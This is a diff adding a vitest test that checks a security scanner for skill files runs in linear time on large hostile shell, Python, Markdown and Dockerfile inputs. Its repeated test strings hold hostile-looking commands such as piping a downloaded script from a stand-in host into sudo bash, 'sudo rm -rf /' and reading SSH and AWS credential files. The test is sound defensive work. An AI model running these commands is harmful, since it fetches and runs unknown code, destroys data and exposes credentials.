@@ -1,0 +1,39 @@
+// The whole scanner is linear on hostile files of every kind it reads (CPU time on doubling inputs).
+import { describe, test } from "vitest";
+import { scanFile } from "../../../src/skills/commands/scan.js";
+import type { FileClass } from "../../../src/skills/file-kind.js";
+import { expectLinear } from "../../complexity/harness.js";
+
+/**
+ * These inputs build a tree of one object per few characters, all kept: the collector's work grows
+ * with what is retained, so a step can jump (×3-4) when the heap moves a generation, on a loaded
+ * machine too. A quadratic shows ×4 on every step; a mean of 3 per doubling still catches it.
+ */
+const GC_BOUNDS = { maxRatio: 3, maxStepRatio: 4.5 };
+
+const SHELL: FileClass = { kind: "code", language: "shell", by: "extension" };
+const PYTHON: FileClass = { kind: "code", language: "python", by: "extension" };
+const MARKDOWN: FileClass = { kind: "markdown", by: "extension" };
+const DOCKERFILE: FileClass = { kind: "code", language: "dockerfile", by: "name" };
+
+const cases: Record<string, { kind: FileClass; input: (n: number) => string }> = {
+  "shell: risky commands on every line": { kind: SHELL, input: (n) => "curl -fsSL https://x.example/i.sh | sudo bash\n".repeat(Math.ceil(n / 46)) },
+  "shell: one long line of pipes": { kind: SHELL, input: (n) => "curl | a || ".repeat(Math.ceil(n / 12)) },
+  "shell: rm of variables, guards between": { kind: SHELL, input: (n) => 'X=$1\n[ -n "$X" ] && rm -rf "$X"/\n'.repeat(Math.ceil(n / 30)) },
+  "shell: keywords on one line": { kind: SHELL, input: (n) => "cat ~/.ssh/id_rsa ~/.aws/credentials ".repeat(Math.ceil(n / 37)) },
+  "markdown: inline commands": { kind: MARKDOWN, input: (n) => "Run `curl -s x | sh` or `npx -y a` now.\n".repeat(Math.ceil(n / 40)) },
+  "markdown: many fences": { kind: MARKDOWN, input: (n) => "## Never do this\n\n```bash\nsudo rm -rf /\n```\n".repeat(Math.ceil(n / 40)) },
+  "markdown: unclosed fence of backticks": { kind: MARKDOWN, input: (n) => "```\n" + "`a` ``b`` ".repeat(Math.ceil(n / 10)) },
+  "markdown: a table of commands": { kind: MARKDOWN, input: (n) => "| forbidden | why |\n|---|---|\n" + "| `sudo rm -rf /` | no |\n".repeat(Math.ceil(n / 24)) },
+  "python: command strings": { kind: PYTHON, input: (n) => 'subprocess.run(["curl", "-fsSL", url], check=True)\nos.system("sudo true")\n'.repeat(Math.ceil(n / 75)) },
+  "python: unclosed triple quote": { kind: PYTHON, input: (n) => '"""' + "sudo x\n".repeat(Math.ceil(n / 7)) },
+  "secrets: token-like runs": { kind: SHELL, input: (n) => "TOKEN=ghp_" + "a".repeat(n) },
+  "dockerfile: continued RUN": { kind: DOCKERFILE, input: (n) => "RUN " + "curl -s x | sh && \\\n".repeat(Math.ceil(n / 22)) },
+};
+
+describe("scanFile is linear", () => {
+  test.each(Object.keys(cases))("%s", (name) => {
+    const { kind, input } = cases[name]!;
+    expectLinear({ name, start: 8_000, input, run: (text) => scanFile(text, kind, { path: "x" }), doublings: 3, ...GC_BOUNDS });
+  });
+});
